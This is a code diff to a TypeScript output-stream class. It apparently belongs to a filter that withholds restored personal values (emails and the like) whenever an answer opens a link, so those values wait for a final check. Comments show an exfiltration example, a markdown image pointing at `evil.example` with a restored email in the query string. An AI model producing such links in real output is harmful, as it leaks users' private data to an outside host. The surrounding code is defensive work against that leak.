@@ -29,7 +29,7 @@
  */
 import { credentialSuspicion, findsCredential } from './output/index.ts';
 import type { StreamRestorer } from './pii/index.ts';
-import { LINK_WORD, wordInLink } from './stages/pii-restore-url.ts';
+import { LINK_WORD, opensLink } from './stages/pii-restore-url.ts';
 
 export interface OutputStreamOptions {
   /** Release nothing before the final verdict (the whole answer arrives at once). */
@@ -86,6 +86,13 @@ export class OutputStream {
   readonly #restoreView: (text: string) => string;
   #pending = '';
   #tail = '';
+  /**
+   * Words released or queued since the last link test, not yet read for a link (read only when a
+   * word that restores arrives: an answer with no value to restore never pays for it).
+   */
+  #unread = '';
+  /** A word of the answer so far opened a link: every later word that restores waits for stage 9. */
+  #linkOpened = false;
   #released = '';
   #held: boolean;
   readonly #holdUntilVerdict: boolean;
@@ -177,9 +184,11 @@ export class OutputStream {
     // A restored value can complete a credential the tokens did not show (stage 9 checks it again):
     // words that restore to other text wait for the credential check, read as the caller sees them.
     const restores = this.#restoreView(words) !== words;
-    // A value restored inside a link (`![](https://evil.example/?d=[EMAIL_1])`) is stage 9's to judge
-    // against what the caller wrote: nothing more is released on the fly, and the final text decides.
-    if (restores && this.#restoresIntoLink(words, window)) {
+    // A value restored inside or after a link (`![](https://evil.example/?d=[EMAIL_1])`, a link
+    // whose `<…>` or quoted attribute runs on over several words) is stage 9's to judge against what
+    // the caller wrote: nothing more is released on the fly, and the final text decides.
+    if (!this.#linkOpened) this.#unread += words;
+    if (restores && this.#opensLinkSoFar()) {
       this.#holdOnTheFly();
       return;
     }
@@ -247,20 +256,17 @@ export class OutputStream {
     });
   }
 
-  /** Whether a word of `words` restores to other text and points somewhere, as written or restored. */
-  #restoresIntoLink(words: string, window: string): boolean {
-    // Read in the window, so the word before (already released, in the tail) can leave a link open.
-    const from = window.length - words.length;
-    let previous: string | undefined;
-    for (const m of window.matchAll(LINK_WORD)) {
-      const before = previous;
-      const word = m[0];
-      previous = word;
-      if (m.index + word.length <= from || !word.includes('[')) continue;
-      const shown = this.#restoreView(word);
-      if (shown !== word && wordInLink(word, shown, before)) return true;
+  /** Whether any word of the answer so far (this batch included) opens a link, as written or restored (stage 9's rule). */
+  #opensLinkSoFar(): boolean {
+    if (this.#linkOpened) return true;
+    for (const m of this.#unread.matchAll(LINK_WORD)) {
+      if (opensLink(m[0], this.#restoreView(m[0]))) {
+        this.#linkOpened = true;
+        break;
+      }
     }
-    return false;
+    this.#unread = '';
+    return this.#linkOpened;
   }
 
   /** The credential check of a window as generated and, when it differs, as the caller sees it (values restored). */
